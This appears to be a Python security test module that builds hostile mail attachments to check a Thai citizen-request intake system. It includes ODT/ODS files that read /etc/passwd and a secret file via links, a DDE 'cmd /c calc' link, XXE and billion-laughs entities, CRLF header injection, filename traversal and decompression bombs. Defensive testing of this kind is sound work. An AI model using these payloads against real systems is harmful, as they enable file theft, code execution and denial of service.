    b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    b'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    b'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    b'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2"'
)


def _odf(mime: tuple[str, str], content: bytes, extra: list[Member] = ()) -> bytes:  # type: ignore[assignment]
    media = (mime[0] + "/" + mime[1]).encode()
    manifest = (
        b'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:'
        b'names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
        b'<manifest:file-entry manifest:full-path="/" manifest:media-type="' + media + b'"/>'
        b'<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        b"</manifest:manifest>"
    )
    return _zip(
        [
            _member("mimetype", media, zipfile.ZIP_STORED),
            _member("META-INF/manifest.xml", manifest),
            _member("content.xml", content),
            *extra,
        ]
    )


def _odt_paragraphs() -> bytes:
    p = CITIZEN
    return b"".join(
        b"<text:p>" + line.encode() + b"</text:p>"
        for line in (
            f"ชื่อ-นามสกุล: {p.name}",
            f"เลขประจำตัวประชาชน: {p.national_id}",
            "รายละเอียด: แบบฟอร์มแนบ",
        )
    )


def odt_external_references(bait: Bait) -> bytes:
    """An ODT that, opened in LibreOffice, fetches an image from a loopback URL, pulls a
    section's text from the host's secret file and /etc/passwd, and keeps a DDE link."""
    url = b"http://127.0.0.1:%d/odt.png" % bait.port
    secret = b"file://" + str(bait.secret_path).encode()
    content = (
        b'<?xml version="1.0" encoding="UTF-8"?><office:document-content ' + ODF_NS + b">"
        b"<office:body><office:text>" + _odt_paragraphs() + b""
        b'<text:p><draw:frame><draw:image xlink:href="' + url + b'" xlink:type="simple" '
        b'xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>'
        b'<text:section text:name="S1"><text:section-source xlink:href="' + secret + b'" '
        b'xlink:type="simple"/></text:section>'
        b'<text:section text:name="S2"><text:section-source xlink:href="file:///etc/passwd"/>'
        b"</text:section>"
        b'<text:p><text:a xlink:href="' + url + b'">' + "ดูเอกสาร".encode() + b"</text:a></text:p>"
        b'<text:p><office:dde-source office:dde-application="cmd" office:dde-topic="/c calc" '
        b'office:dde-item="x"/></text:p>'
        b"</office:text></office:body></office:document-content>"
    )
    return _odf(ODT, content)


def ods_external_sources(bait: Bait) -> bytes:
    """An ODS whose table and a cell range are linked from the host's secret file and a
    loopback URL (LibreOffice refreshes them on load), with the citizen's row beside them."""
    p = CITIZEN
    secret = b"file://" + str(bait.secret_path).encode()
    url = b"http://127.0.0.1:%d/ods" % bait.port

    def cell(text: str) -> bytes:
        return (
            b'<table:table-cell office:value-type="string"><text:p>'
            + text.encode()
            + b"</text:p></table:table-cell>"
        )

    content = (
        b'<?xml version="1.0" encoding="UTF-8"?><office:document-content ' + ODF_NS + b">"
        b'<office:body><office:spreadsheet><table:table table:name="S1">'
        b'<table:table-source xlink:href="' + secret + b'" table:mode="copy-all"/>'
        b"<table:table-row>" + cell("ชื่อ-นามสกุล") + cell(p.name) + b"</table:table-row>"
        b"<table:table-row>"
        + cell("เลขประจำตัวประชาชน")
        + cell(p.national_id)
        + b"</table:table-row>"
        b'<table:table-row><table:table-cell table:number-columns-spanned="1">'
        b'<table:cell-range-source table:name="R" xlink:href="' + url + b'" '
        b'table:filter-name="calc_HTML_WebQuery" table:last-column-spanned="5" '
        b'table:last-row-spanned="5"/></table:table-cell></table:table-row>'
        b"</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    return _odf(ODS, content)


def odt_entities_beside_content(bait: Bait) -> bytes:
    """content.xml clean; styles.xml with a billion laughs, meta.xml with an external
    file entity, settings.xml with an http one."""
    laughs = b'<!ENTITY a "ha">' + b"".join(
        b'<!ENTITY %s "%s">' % (chr(98 + i).encode(), (b"&" + chr(97 + i).encode() + b";") * 10)
        for i in range(9)
    )
    styles = (
        b'<?xml version="1.0"?><!DOCTYPE office:document-styles [' + laughs + b"]>"
        b"<office:document-styles " + ODF_NS + b"><office:styles><text:p>&j;</text:p>"
        b"</office:styles></office:document-styles>"
    )
    meta = (
        b'<?xml version="1.0"?><!DOCTYPE office:document-meta [<!ENTITY s SYSTEM "file://'
        + str(bait.secret_path).encode()
        + b'">]><office:document-meta '
        + ODF_NS
        + b'><office:meta><dc:title xmlns:dc="http://purl.org/dc/elements/1.1/">&s;</dc:title>'
        b"</office:meta></office:document-meta>"
    )
    settings = (
        b'<?xml version="1.0"?><!DOCTYPE office:document-settings [<!ENTITY n SYSTEM '
        b'"http://127.0.0.1:%d/settings">]><office:document-settings '
        % bait.port
        + ODF_NS
        + b"><office:settings>&n;</office:settings></office:document-settings>"
    )
    content = (
        b'<?xml version="1.0" encoding="UTF-8"?><office:document-content ' + ODF_NS + b">"
        b"<office:body><office:text>" + _odt_paragraphs() + b"</office:text></office:body>"
        b"</office:document-content>"
    )
    return _odf(
        ODT,
        content,
        [
            _member("styles.xml", styles),
            _member("meta.xml", meta),
            _member("settings.xml", settings),
        ],
    )


def fodt_flat_xxe(bait: Bait) -> bytes:
    """A flat (single-XML) ODT, which LibreOffice opens as readily as a zipped one, with
    file and http entities in its paragraphs beside the citizen's."""
    return (
        b'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE office:document [<!ENTITY s SYSTEM '
        b'"file://' + str(bait.secret_path).encode() + b'"><!ENTITY n SYSTEM '
        b'"http://127.0.0.1:%d/fodt">]><office:document '
        % bait.port
        + ODF_NS
        + b' office:mimetype="application/vnd.oasis.opendocument.text"><office:body>'
        b"<office:text>" + _odt_paragraphs() + b"<text:p>&s;&n;</text:p></office:text>"
        b"</office:body></office:document>"
    )


# --- the privacy promise -----------------------------------------------------------------------


def pii_where_errors_print(n: int) -> bytes:
    """The citizen's national ID as an unknown charset, the phone as a boundary, name and ID
    in the Subject and the file names of a broken PDF and a broken DOCX: values a parser
    puts in its exception text, which a worker may log."""
    p = CITIZEN
    broken_pdf = (
        b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 9 0 R >> endobj\ntrailer << /Root 1 0 R >>"
    )
    broken_docx = b"PK\x03\x04" + b"\x00" * 200
    name_file = f"บัตรประชาชน {p.name} {p.national_id}"
    out = mail(n, subject=f"คำร้องของ {p.name} เลขบัตร {p.national_id} โทร {p.phone}")
    out.add_attachment(
        broken_pdf, maintype="application", subtype="pdf", filename=name_file + ".pdf"
    )
    out.add_attachment(broken_docx, maintype=DOCX[0], subtype=DOCX[1], filename=name_file + ".docx")
    raw = bytes(out)
    boundary = raw.split(b'boundary="', 1)[1].split(b'"', 1)[0]
    odd = (
        b'Content-Type: text/plain; charset="x-' + p.national_id.encode() + b'"\r\n'
        b'Content-Disposition: attachment; filename="note.txt"\r\n\r\n\xff\xfe broken\r\n'
    )
    closing = b"--" + boundary + b"--"
    raw = raw.replace(closing, b"--" + boundary + b"\r\n" + odd + closing)
    return raw.replace(boundary, p.phone_digits.encode() + b"-" + boundary)


def privacy_scenario_mail(n: int) -> bytes:
    """The victim's own request (used by the web scenarios: a clerk without the case
    guessing its receipt number, and a subject-access export asked for someone else)."""
    out = mail(n, subject="ขอข้อมูลข่าวสารของราชการ")
    out.add_attachment(b"%PDF-1.4 small", maintype="application", subtype="pdf", filename="id.pdf")
    return bytes(out)


def _pdf(build: Callable[[], bytes]) -> Callable[[Bait, int], bytes]:
    return _file(build, *PDF, "form.pdf")


CASE = "a case is made, the citizen's name read"
BOUNDED = "a final state within its limit, the worker under 300 MB, the request behind a case"

ATTACKS: list[Attack] = [
    # charsets at the review page
    Attack(
        "mime_utf7_markup",
        "UTF-7 encoded words and HTML run as script on the review page",
        f"{CASE}; the case page and mail frame show no live tag, declare UTF-8",
        _mail_builder(mime_utf7_markup),
    ),
    Attack(
        "html_utf16_without_bom",
        "UTF-16LE bytes labelled latin-1 sniffed into script",
        f"{CASE}; no live tag in the page or frame",
        _mail_builder(html_utf16_without_bom),
    ),
    # what a clerk reads wrong
    Attack(
        "names_homoglyph_bidi",
        "the agency's own address in homoglyphs, bidi isolates, a tone-mark tower",
        f"{CASE}; no bidi control reaches a page unescaped",
        _mail_builder(names_homoglyph_bidi),
    ),
    # the acknowledgement
    Attack(
        "crlf_subject_and_name",
        "encoded CRLF in Subject and From name adds a Bcc and a body to the ack",
        f"{CASE}; the ack goes to the sender alone, with no header of the attacker's",
        _mail_builder(crlf_subject_and_name),
    ),
    Attack(
        "crlf_reply_to_cannon",
        "500 Reply-To addresses and a hidden Bcc: the ack as a spam cannon",
        f"{CASE}; the ack goes to one address, no victim",
        _mail_builder(crlf_reply_to_cannon),
    ),
    # file names
    Attack(
        "filenames_windows",
        "CON, COM1, NTFS streams, Startup path, 1,000 chars, RFC 2231 traversal with NUL",
        f"{CASE}; nothing written; a download's name is one a Windows clerk can save",
        filenames_windows,
    ),
    Attack(
        "filename_header_split",
        "CRLF and Set-Cookie in a file name, into the download's headers",
        f"{CASE}; the download sets no cookie and is an attachment",
        _mail_builder(filename_header_split),
    ),
    # spreadsheets
    Attack(
        "formulas_everywhere",
        "formulas behind full-width signs, ideographic space, line breaks",
        f"{CASE}; no CSV or XLSX cell of the export starts a formula",
        _mail_builder(formulas_everywhere),
    ),
    # MIME shapes
    Attack(
        "mime_50000_empty_parts_body_last",
        "the body after 50,000 empty parts: a part cap keeps nothing",
        f"{BOUNDED}; {CASE}",
        _mail_builder(mime_50000_empty_parts_body_last),
    ),
    Attack(
        "mime_one_boundary_every_level",
        "300 levels sharing one boundary, a prefix boundary, repeated closings",
        BOUNDED,
        _mail_builder(mime_one_boundary_every_level),
    ),
    Attack(
        "mime_10mb_references",
        "300,000 message ids to thread by, 1 MB In-Reply-To",
        f"{BOUNDED}; {CASE}",
        _mail_builder(mime_10mb_references),
    ),
    Attack(
        "mime_10mb_filename_line",
        "a 10 MB file name in one header line",
        f"{BOUNDED}; {CASE}",
        _mail_builder(mime_10mb_filename_line),
    ),
    Attack(
        "mime_encoded_word_charset_flood",
        "200,000 encoded words over stateful and unknown charsets",
        f"{BOUNDED}; {CASE}",
        _mail_builder(mime_encoded_word_charset_flood),
    ),
    Attack(
        "mime_base64_noise",
        "noise between base64 characters, 5 MB of padding then data",
        f"{BOUNDED}; {CASE}",
        _mail_builder(mime_base64_noise),
    ),
    Attack(
        "near_cap_all_attachments",
        "24.9 MB, every part an attachment: the parse stage's time near the cap",
        f"{BOUNDED}; {CASE} (from the attached .txt)",
        _mail_builder(near_cap_all_attachments),
    ),
    # PDF
    Attack(
        "pdf_reference_chain",
        "/Length and /Resources behind 60,000 references",
        f"{BOUNDED}; {CASE}",
        _pdf(pdf_reference_chain),
    ),
    Attack(
        "pdf_hybrid_xref_loop",
        "/XRefStm and /Prev pointing at each other",
        f"{BOUNDED}; {CASE}",
        _pdf(pdf_hybrid_xref_loop),
    ),
    Attack(
        "pdf_ccitt_bomb",
        "7.5 KB of CCITT G4 to 60000x60000",
        f"{BOUNDED}; {CASE}",
        _pdf(pdf_ccitt_bomb),
    ),
    Attack(
        "pdf_predictor_columns_bomb",
        "a PNG predictor of 2^30 columns",
        f"{BOUNDED}; {CASE}",
        _pdf(pdf_predictor_columns_bomb),
    ),
    Attack(
        "pdf_xfa_entities",
        "XFA packets array: billion laughs in the template, file/http in the datasets",
        f"{CASE}; nothing read or fetched; an 'entit' defect recorded",
        _bait_file(pdf_xfa_entities, *PDF, "form.pdf"),
        defect="entit",
    ),
    # images
    Attack(
        "tiff_deflate_bomb_144mpx",
        "150 KB TIFF to 144 MB, under Pillow's bomb error",
        f"{BOUNDED}; {CASE}",
        _file(tiff_deflate_bomb, "image", "tiff", "scan.tif"),
    ),
    Attack(
        "png_80mpx_rgba16",
        "630 KB PNG to 640 MB of 16-bit RGBA, under Pillow's warning",
        f"{BOUNDED}; {CASE}",
        _file(png_80mpx_rgba16, "image", "png", "scan.png"),
    ),
    Attack(
        "docx_60000px_image",
        "a 60000x60000 picture inside a form DOCX",
        f"{BOUNDED}; {CASE}",
        _file(docx_60000px_image, *DOCX, "form.docx"),
    ),
    # office packages
    Attack(
        "ooxml_20000_relationships",
        "20,000 relationships and overrides, 10,000 parts",
        f"{BOUNDED}; {CASE}",
        _file(ooxml_20000_relationships, *DOCX, "form.docx"),
    ),
    Attack(
        "odt_external_references",
        "an image, sections and a DDE link from the host and a loopback URL",
        f"{CASE}; nothing read or fetched; an 'external' defect recorded",
        _bait_file(odt_external_references, *ODT, "form.odt"),
        defect="external",
    ),
    Attack(
        "ods_external_sources",
        "table-source and cell-range-source from the host and a loopback URL",
        f"{CASE}; nothing read or fetched; an 'external' defect recorded",
        _bait_file(ods_external_sources, *ODS, "form.ods"),
        defect="external",
    ),
    Attack(
        "odt_entities_beside_content",
        "entities in styles.xml, meta.xml and settings.xml",
        f"{CASE}; nothing read or fetched; an 'entit' defect recorded",
        _bait_file(odt_entities_beside_content, *ODT, "form.odt"),
        defect="entit",
    ),
    Attack(
        "fodt_flat_xxe",
        "a flat ODT with file and http entities",
        f"{CASE}; nothing read or fetched",
        _bait_file(
            fodt_flat_xxe, "application", "vnd.oasis.opendocument.text-flat-xml", "form.fodt"
        ),
    ),
    # privacy
    Attack(
        "pii_where_errors_print",
        "ID as a charset, phone in a boundary, name and ID in file names of broken files",
        f"{BOUNDED}; {CASE}; no name, ID or phone in the worker's log or status",
        _mail_builder(pii_where_errors_print),
    ),
    Attack(
        "privacy_guessed_receipt",
        "a clerk without the case opens it by a guessed receipt number",
        "the page masked; reveal, download, frame refused or masked",
        _mail_builder(privacy_scenario_mail),
    ),
    Attack(
        "privacy_export_other_subject",
        "a stranger's mail filed into the victim's case; exports asked for one person",
        "an access export holds the subject asked for and no other person's ID or name",
        _mail_builder(privacy_scenario_mail),
    ),
]


def attack_set(bait: Bait, first: int = 500) -> dict[str, bytes]:
    return {a.name: a.build(bait, first + i) for i, a in enumerate(ATTACKS)}


def by_name(name: str) -> Attack:
    (found,) = [a for a in ATTACKS if a.name == name]
    return found
